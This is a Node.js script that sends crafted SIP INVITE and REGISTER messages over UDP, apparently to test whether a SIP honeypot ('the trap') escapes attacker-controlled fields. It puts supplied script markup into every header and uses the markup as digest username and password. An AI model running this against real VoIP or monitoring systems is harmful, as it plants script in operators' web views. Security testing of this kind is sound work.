// Sends SIP whose every field is markup that would run a script in a page that took it for such: an
// INVITE from one address, and from another a REGISTER with credentials whose password is the user name.
// Arguments: the two source addresses, destination address, the markup.
import { createHash } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';

const [caller, guesser, to, markup] = process.argv.slice(2);
const md5 = (text) => createHash('md5').update(text).digest('hex');
// In a URI only what is escaped is markup still; in a display name and in a quoted string all is.
const user = encodeURIComponent(markup);

async function open(from) {
  const socket = createSocket('udp4');
  await new Promise((resolve) => socket.bind(0, from, resolve));
  return { socket, from, port: socket.address().port };
}

let sent = 0;
async function send({ socket, from, port }, method, uri, account, extra = []) {
  sent += 1;
  const lines = [
    `${method} ${uri} SIP/2.0`,
    `Via: SIP/2.0/UDP ${from}:${port};branch=z9hG4bK${sent}${port};rport`,
    `From: "${markup}" <sip:${account}@${user}>;tag=${sent}`,
    `To: "${markup}" <sip:${account}@${user}>`,
    `Call-ID: ${markup}${sent}`,
    `CSeq: ${sent} ${method}`,
    `Contact: <sip:${account}@${from}:${port}>`,
    `User-Agent: ${markup}`,
    ...extra,
    'Content-Length: 0',
  ];
  await new Promise((resolve) => socket.send(`${lines.join('\r\n')}\r\n\r\n`, 5060, to, resolve));
}

const first = await open(caller);
// Who is blocked by it gets no answer.
await send(first, 'INVITE', `sip:${user}@${user}`, user);
const second = await open(guesser);
const answered = once(second.socket, 'message', { signal: AbortSignal.timeout(5_000) });
// An account that the trap knows gets a nonce.
await send(second, 'REGISTER', `sip:${to}`, '100');
const challenge = String((await answered)[0]);
const [, nonce] = /nonce="([^"]+)"/.exec(challenge);
const [, realm] = /realm="([^"]+)"/.exec(challenge);
const response = md5(
  `${md5(`${markup}:${realm}:${markup}`)}:${nonce}:${md5(`REGISTER:sip:${to}`)}`,
);
const credentials = { username: markup, realm, nonce, uri: `sip:${to}`, response };
const words = Object.entries(credentials).map(([name, value]) => `${name}="${value}"`);
await send(second, 'REGISTER', `sip:${to}`, '100', [`Authorization: Digest ${words.join(', ')}`]);
first.socket.close();
second.socket.close();
